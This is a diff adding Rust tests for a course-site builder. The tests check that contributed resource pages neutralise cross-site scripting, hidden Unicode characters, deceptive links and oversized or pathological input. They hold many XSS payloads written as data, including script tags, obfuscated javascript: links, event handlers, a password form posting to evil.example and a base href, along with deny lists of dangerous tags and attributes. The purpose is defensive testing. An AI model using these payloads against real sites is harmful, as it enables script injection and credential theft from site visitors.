@@ -287,3 +287,342 @@ fn base_addresses_are_whole() {
             .assert_good();
     }
 }
+
+/// The page of a resource with this text, and what was found in it.
+fn contributed(text: impl AsRef<[u8]>) -> support::Build {
+    let mut file = b"+++\ntitle = \"R\"\n+++\n".to_vec();
+    file.extend_from_slice(text.as_ref());
+    Course::lesson("# A\n\nText.\n")
+        .with("resources/r.md", file)
+        .with("resources/files/plan.pdf", "%PDF")
+        .build()
+}
+
+/// The page between its heading and its end.
+fn body(build: &support::Build) -> String {
+    let page = build.page("resources/r/");
+    let (_, body) = page.split_once("<main").unwrap_or(("", &page));
+    let (body, _) = body.split_once("</main>").unwrap_or((body, ""));
+    body.to_owned()
+}
+
+#[test]
+fn nothing_that_others_wrote_is_alive() {
+    for text in [
+        "<script>alert(1)</script>",
+        "a <script src=//evil.example></script>",
+        "<style>body{display:none}</style>",
+        "<svg onload=alert(1)><path/></svg>",
+        "<math href=\"javascript:alert(1)\">x</math>",
+        "<iframe srcdoc=\"<script>x</script>\"></iframe>",
+        "<form action=\"https://evil.example\"><input name=password></form>",
+        "<p onclick=\"x()\">x</p>",
+        "<base href=\"//evil.example/\">",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](java&#10;script:alert(1))",
+        "[x](&#106;avascript:alert(1))",
+        "[x](\u{1}javascript:alert(1))",
+        "[x](javascript\u{200b}:alert(1))",
+        "[x](<java\u{200b}script:alert(1)>)",
+        "[x](data:text/html,<script>x</script>)",
+        "[x](vbscript:x)",
+        "![x](javascript:alert(1))",
+        "![x](data:text/html;base64,AA)",
+        "[x]: javascript:alert(1)\n\n[x] ![x]",
+        "<javascript:alert(1)>",
+        "[![x](javascript:a)](javascript:b)",
+        "[x](https://example.org/\"onmouseover=\"alert(1))",
+        "![\" onerror=\"alert(1)](files/plan.pdf)",
+        "[x](https://example.org 'a\" onclick=\"x()')",
+        "## x {#\"><script>}",
+        "```\"><script>\nx\n```",
+        ":::callout \"><script>x</script> {kind=\"tip\"}\nx\n:::",
+        ":::video{src=\"https://evil.example/x.mp4\" title=\"x\"}\n:::",
+        ":::details{title=\"<img src=x onerror=x>\"}\nx\n:::",
+    ] {
+        let build = contributed(format!("See\n\n{text}\n"));
+        let body = body(&build).to_lowercase();
+        // What is between tags is text; in a tag nothing of these may be.
+        let tags: Vec<&str> = body
+            .split('<')
+            .skip(1)
+            .filter_map(|rest| rest.split_once('>'))
+            .map(|(tag, _)| tag)
+            .collect();
+        for tag in tags {
+            let outside: String = tag.split('"').step_by(2).collect();
+            let name = tag.split([' ', '/']).next().unwrap_or_default();
+            assert!(
+                ![
+                    "script", "style", "math", "iframe", "form", "input", "base", "object", "video"
+                ]
+                .contains(&name),
+                "{text}: <{tag}>"
+            );
+            assert!(!outside.contains(" on"), "{text}: <{tag}>");
+            for bad in [
+                "=\"javascript",
+                "=\"vbscript",
+                "=\"data:text",
+                "=\"//evil",
+                "src=\"https://evil",
+            ] {
+                assert!(!tag.contains(bad), "{text}: <{tag}>");
+            }
+        }
+        assert!(!body.contains("<svg onload"), "{text}");
+    }
+}
+
+#[test]
+fn templates_and_blocks_of_the_course_are_text_to_others() {
+    let build = contributed(
+        "{{ site.title }} {% include \"x\" %}\n\n:::discussion{id=\"d\" prompt=\"p\"}\nSay it.\n:::\n\n:::introduce{id=\"i\"}\n:::\n\n:::calout\nText.\n:::\n\n:::facilitator\nSecret.\n:::\n",
+    );
+    let body = body(&build);
+    assert!(
+        body.contains("{{ site.title }}") && body.contains("Say it."),
+        "{body}"
+    );
+    assert!(
+        !body.contains("Secret") && !body.contains("class=\"thread\""),
+        "{body}"
+    );
+    assert_eq!(
+        build.findings_of("block-in-contribution").len(),
+        4,
+        "{:?}",
+        build.findings()
+    );
+    let good = contributed(":::callout{kind=\"tip\"}\nx\n:::\n\n:::details More\nx\n:::\n");
+    good.assert_good();
+    assert!(good.findings_of("block-in-contribution").is_empty());
+}
+
+#[test]
+fn what_nobody_sees_is_left_out() {
+    let hidden = [
+        "\u{202e}",
+        "\u{2066}",
+        "\u{200b}",
+        "\u{feff}",
+        "\u{ad}",
+        "\u{e0041}",
+        "&#x202e;",
+        "&rlm;",
+        "&ZeroWidthSpace;",
+    ];
+    for char in hidden {
+        let text = format!(
+            "# R{char}\n\na{char}b [t{char}](https://example.org/{char} \"t{char}\") ![d{char}](x{char}.png)\n\n## H{char}\n\n```\nc{char}d\n```\n\n:::callout T{char} {{kind=\"tip\"}}\nx\n:::\n"
+        );
+        let build = contributed(&text);
+        for (path, bytes) in build.files() {
+            let file = String::from_utf8_lossy(&bytes).into_owned();
+            if path.starts_with("resources/") {
+                assert!(
+                    !file.contains([
+                        '\u{202e}',
+                        '\u{2066}',
+                        '\u{200b}',
+                        '\u{ad}',
+                        '\u{e0041}',
+                        '\u{200f}'
+                    ]),
+                    "{char:?} {path}: {file}"
+                );
+            }
+        }
+        assert!(
+            !build.findings_of("hidden-character").is_empty(),
+            "{char:?}"
+        );
+    }
+    let front = Course::lesson("# A\n\nText.\n")
+        .with("resources/r.md", "+++\ntitle = \"R\\u202Eevil\\u0001\"\nkind = \"k\\u200B\"\ntags = [\"t\\u0002\"]\n+++\nx\n")
+        .build();
+    assert_eq!(
+        front.findings_of("hidden-character").len(),
+        2,
+        "{:?}",
+        front.findings()
+    );
+    assert!(front.page("resources/r/").contains(">Revil</h1>"));
+    // What letters and pictures need is no secret.
+    let build = contributed("می‌خواهم 👩‍🔬 ❤️ 1️⃣ 👍🏽 שלום\n");
+    assert!(
+        build.findings_of("hidden-character").is_empty(),
+        "{:?}",
+        build.findings()
+    );
+}
+
+#[test]
+fn links_say_where_they_lead() {
+    for (text, shown) in [
+        (
+            "[bank.example](https://evil.example/)",
+            Some("bank.example</a> (evil.example)"),
+        ),
+        (
+            "[https://bank.example/login](https://evil.example/)",
+            Some("</a> (evil.example)"),
+        ),
+        (
+            "[**bank.example**](//evil.example/)",
+            Some("</a> (evil.example)"),
+        ),
+        (
+            "[ba\u{200b}nk.example](https://evil.example/)",
+            Some("</a> (evil.example)"),
+        ),
+        (
+            "[x](https://bank.example@evil.example/)",
+            Some("x</a> (evil.example)"),
+        ),
+        ("[`bank.example`](https://bank.example.evil.example/)", None),
+        ("[the bank](https://evil.example/)", None),
+        ("[www.bank.example](https://bank.example/)", None),
+        ("[plan.pdf](files/plan.pdf)", None),
+        ("<https://bank.example/>", None),
+    ] {
+        let build = contributed(format!("{text}\n"));
+        let found = build.findings_of("deceptive-link");
+        let body = body(&build);
+        match shown {
+            Some(shown) => {
+                assert_eq!(found.len(), 1, "{text}: {:?}", build.findings());
+                assert!(body.contains(shown), "{text}: {body}");
+            }
+            None if text.contains("evil.example/)") && text.contains("`bank") => {}
+            None => assert!(found.is_empty(), "{text}: {found:?}"),
+        }
+    }
+    let build = Course::lesson("# A\n\nText.\n")
+        .with(
+            "resources/r.md",
+            "+++\ntitle = \"R\"\nurl = \"https://bank.example@evil.example/\"\n+++\n",
+        )
+        .build();
+    assert_eq!(build.findings_of("deceptive-link").len(), 1);
+    assert!(!build.page("resources/r/").contains("bank.example"));
+}
+
+#[test]
+fn what_is_huge_is_cut_in_a_moment() {
+    let started = std::time::Instant::now();
+    let tags: Vec<String> = (0..100_000).map(|at| format!("\"t{at}\"")).collect();
+    let front = format!(
+        "+++\ntitle = \"{}\"\nurl = \"https://example.org/{}\"\nby = \"{}\"\ntags = [{}]\n+++\nx\n",
+        "long ".repeat(200_000),
+        "x".repeat(10_000),
+        "n".repeat(1000),
+        tags.join(", ")
+    );
+    let build = Course::lesson("# A\n\nText.\n")
+        .with("resources/r.md", front)
+        .build();
+    assert_eq!(
+        build.findings_of("too-long").len(),
+        4,
+        "title, address, name, tags"
+    );
+    let page = build.page("resources/r/");
+    assert!(page.len() < 20_000, "{}", page.len());
+    assert_eq!(page.matches("data-tag=").count(), 20);
+    let build = Course::lesson("# A\n\nText.\n")
+        .with(
+            "resources/r.md",
+            format!("+++\ntitle = \"{}\"\n+++\nx\n", "w".repeat(1 << 20)),
+        )
+        .build();
+    assert!(build.page("resources/r/").len() < 20_000);
+    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
+}
+
+#[test]
+fn bodies_without_end_are_read_in_a_moment() {
+    let many = 20_000;
+    for (name, text) in [
+        ("10 MB of words", "word ".repeat(2 << 20)),
+        (
+            "lists in lists",
+            (0..2000)
+                .map(|at| format!("{}- x\n", " ".repeat(at * 2 % 4000)))
+                .collect(),
+        ),
+        ("quotes in quotes", format!("{}x\n", "> ".repeat(5000))),
+        ("brackets", "[".repeat(many)),
+        ("links in links", "[a](".repeat(many)),
+        ("emphasis", "*a **a ".repeat(many)),
+        (
+            "ticks",
+            (1..1000).map(|at| format!("{} ", "`".repeat(at))).collect(),
+        ),
+        (
+            "definitions",
+            (0..many)
+                .map(|at| format!("[d{at}]: https://example.org/{at}\n"))
+                .collect(),
+        ),
+        (
+            "a wide table",
+            format!(
+                "|{}\n|{}\n|{}\n",
+                "a|".repeat(many),
+                "-|".repeat(many),
+                "b|".repeat(many)
+            ),
+        ),
+        (
+            "a long table",
+            format!("|a|\n|-|\n{}", "|b|\n".repeat(many)),
+        ),
+        ("open blocks", ":::callout{kind=\"tip\"}\n".repeat(many / 4)),
+        ("closed blocks", ":::\n".repeat(many / 4)),
+        (
+            "footnotes",
+            (0..many / 4)
+                .map(|at| format!("[^{at}] x\n\n[^{at}]: n\n\n"))
+                .collect(),
+        ),
+        ("html", "<b>".repeat(many)),
+        ("comments", "<!-- ".repeat(many)),
+        ("hidden", "a\u{200b}".repeat(many)),
+        ("hosts", "[a.example](https://b.example/) ".repeat(many / 4)),
+        ("headings", "# x {#x}\n\n".repeat(many / 4)),
+    ] {
+        let started = std::time::Instant::now();
+        let build = contributed(&text);
+        assert!(
+            build.has("resources/r/index.html") || !build.build.is_good(),
+            "{name}"
+        );
+        let spent = started.elapsed();
+        println!("{name}: {spent:?}");
+        assert!(spent.as_secs() < 20, "{name}: {spent:?}");
+    }
+}
+
+#[test]
+fn a_file_of_another_encoding_says_where() {
+    let build = contributed(b"Text \xff\xfe more.\n");
+    assert_eq!(build.findings_of("invalid-utf8").len(), 1);
+    assert!(build.findings_of("invalid-utf8")[0].starts_with("resources/r.md:4:6"));
+    assert!(!build.build.is_good());
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
+    #[test]
+    fn whatever_others_write_stays_text(pieces in proptest::collection::vec("(<|>|\\[|\\]|\\(|\\)|\"|'|=|:::|\\{|\\}|\\n|\\n\\n| |script|svg|a|on|javascript:|https://e[.]example/|b[.]example|\u{202e}|\u{200b}|&#106;|&lt;|`|```|\\*|#|-|>|!|callout|facilitator|\\\\|\u{1}0\u{2}|é)", 0..60)) {
+        let build = contributed(pieces.concat());
+        if build.has("resources/r/index.html") {
+            let body = body(&build).to_lowercase();
+            for bad in ["<script", "<svg>", "href=\"javascript:", "href=\"&#106;", "\u{202e}", "\u{200b}", "\u{1}", "\u{2}"] {
+                proptest::prop_assert!(!body.contains(bad), "{bad}: {body}");
+            }
+        }
+    }
+}
